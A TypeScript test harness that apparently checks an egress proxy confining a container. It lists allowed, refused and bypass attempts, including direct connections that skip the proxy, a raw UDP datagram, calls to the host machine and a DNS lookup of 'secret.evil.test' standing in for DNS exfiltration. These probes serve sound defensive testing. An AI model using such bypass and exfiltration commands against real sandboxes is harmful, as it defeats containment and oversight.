import type { Internet } from '../support/internet.js';

/** What one attempt gave, as the job's script reports it. */
export interface Outcome {
  /** curl's, or 0 and 1. */
  readonly exit: number;
  /** The answer's status; for a tunnel that was refused that of the proxy; 0 where there was none. */
  readonly status: number;
  readonly ms: number;
  /** Bit/s. */
  readonly rate: number;
  /** The proxy's reason for a refusal. */
  readonly deny: string;
}

export interface Attempt {
  readonly group: string;
  readonly title: string;
  /** A shell command of the job, from those that `prelude` defines. */
  readonly command: string;
  /** Tried in an ordinary container as well, where it must succeed. Default true. */
  readonly control?: boolean;
  readonly show: (outcome: Outcome) => string;
  readonly right: (outcome: Outcome) => boolean;
  /** The port of an origin where a datagram tells whether the attempt came through; its sender can't know. */
  readonly datagramTo?: number;
}

/** Bytes of a transfer of the demo: four seconds at the standard rate. */
const transfer = 5_000_000;

/** bash: each command prints one line `ID exit status seconds byte/s reason`. */
export const prelude = `
  GATEWAY=\${http_proxy#*://}; GATEWAY=\${GATEWAY%:*}
  printf '%s' "$CA_PEM" >/tmp/ca.pem
  web() { # ID, curl's arguments
    local id=$1; shift
    local out; out=$(curl -s -o /dev/null -D /tmp/head.$id --cacert /tmp/ca.pem --connect-timeout 2 --max-time 30 \\
      -w '%{exitcode} %{http_code} %{http_connect} %{time_total} %{speed_download} %{speed_upload}' $RESOLVE "$@")
    set -- $out
    local status=$2; [ "$status" != 000 ] || status=$3
    local rate=\${5%.*}; [ "$rate" -ge "\${6%.*}" ] || rate=\${6%.*}
    echo "$id $1 $status $4 $rate $(sed -n 's/^x-jobgate-deny: *//Ip' /tmp/head.$id 2>/dev/null | tr -d '\\r')"
  }
  timed() { # ID, a command
    local id=$1 start=$EPOCHREALTIME code=0; shift
    "$@" >/dev/null 2>&1 || code=$?
    echo "$id $code 000 $(( \${EPOCHREALTIME/./} - \${start/./} ))e-6 0"
  }
  datagram() { echo x >"/dev/udp/$1/$2"; }
`;

export function parseOutcomes(stdout: string): Map<string, Outcome> {
  const outcomes = new Map<string, Outcome>();
  for (const line of stdout.split('\n')) {
    const [id, exit, status, seconds, rate, deny = ''] = line.split(' ');
    if (!id || rate === undefined) continue;
    outcomes.set(id, {
      exit: Number(exit),
      status: Number(status),
      ms: Number(seconds) * 1000,
      rate: Number(rate) * 8,
      deny,
    });
  }
  return outcomes;
}

const said = ({ status, deny, exit, ms }: Outcome) =>
  status > 0 ? `${status}${deny && ` ${deny}`}` : `${curlSays[exit] ?? `curl ${exit}`}, ${Math.round(ms)} ms`;
const curlSays: Readonly<Record<number, string>> = {
  2: 'no answer',
  7: 'no connection',
  28: 'time-out',
  0: 'sent',
};

const allowed = (group: string, url: string): Attempt => ({
  group,
  title: url,
  command: `web ID ${url}`,
  show: said,
  right: ({ status }) => status === 200,
});

const refused = (title: string, command: string, reason: string, control = true): Attempt => ({
  group: 'asked of the proxy, not allowed',
  title,
  command,
  control,
  show: said,
  right: ({ status, deny }) => status === 403 && deny === reason,
});

const closed = (title: string, command: string, withinMs = Number.POSITIVE_INFINITY): Attempt => ({
  group: 'around the proxy',
  title,
  command,
  show: said,
  right: ({ status, exit, ms }) => status === 0 && exit !== 0 && ms < withinMs,
});

const measured = (title: string, command: string): Attempt => ({
  group: 'at the rate of 10 Mbit/s',
  title,
  command,
  control: false,
  show: ({ rate, ms }) => `${(rate / 1e6).toFixed(2)} Mbit/s, ${(ms / 1000).toFixed(1)} s`,
  right: ({ status, rate }) => status === 200 && rate > 8.5e6 && rate < 10.3e6,
});

/** Where a service of this machine listens, as seen from a container. */
export interface HostService {
  readonly addresses: readonly string[];
  readonly port: number;
}

export function attempts(net: Internet, service: HostService): Attempt[] {
  const origin = net.addresses['example.com'] ?? '';
  const direct = "--noproxy '*'";
  return [
    allowed('allowed', 'https://example.com/'),
    allowed('allowed', 'http://example.com/'),
    allowed('allowed', 'https://api.example.com/'),
    refused('https://notexample.com/', 'web ID https://notexample.com/', 'domain-not-allowed'),
    refused('http://notexample.com/', 'web ID http://notexample.com/', 'domain-not-allowed'),
    refused(`http://${origin}/ (example.com)`, `web ID http://${origin}/`, 'domain-not-allowed'),
    refused(
      'https://inside.example.com/ (is 10.11.12.13)',
      'web ID https://inside.example.com/',
      'address-not-public',
      false,
    ),
    refused('https://example.com:22/', 'web ID https://example.com:22/', 'port-not-allowed', false),
    closed(`TCP ${origin}:80 (example.com)`, `web ID ${direct} http://${origin}/`),
    closed(`TCP ${origin}:443 (example.com)`, `web ID ${direct} https://example.com/`),
    { ...closed(`UDP ${origin}:53`, `timed ID datagram ${origin} 53`), datagramTo: 53 },
    { ...closed('DNS secret.evil.test', 'timed ID getent ahosts secret.evil.test', 1500), control: false },
    ...service.addresses.map((address) =>
      closed(
        `this machine, ${address}:${service.port}`,
        `web ID ${direct} http://${address}:${service.port}/`,
      ),
    ),
    {
      ...closed(
        `this machine, its side of the network:${service.port}`,
        `web ID ${direct} http://$GATEWAY:${service.port}/`,
      ),
      control: false,
    },
    measured(`download ${transfer / 1e6} MB`, `web ID https://example.com/bytes/${transfer} &`),
    measured(
      `upload ${transfer / 1e6} MB`,
      `head -c ${transfer} /dev/zero >/tmp/up; web ID -H Expect: --data-binary @/tmp/up https://example.com/upload; wait`,
    ),
  ];
}
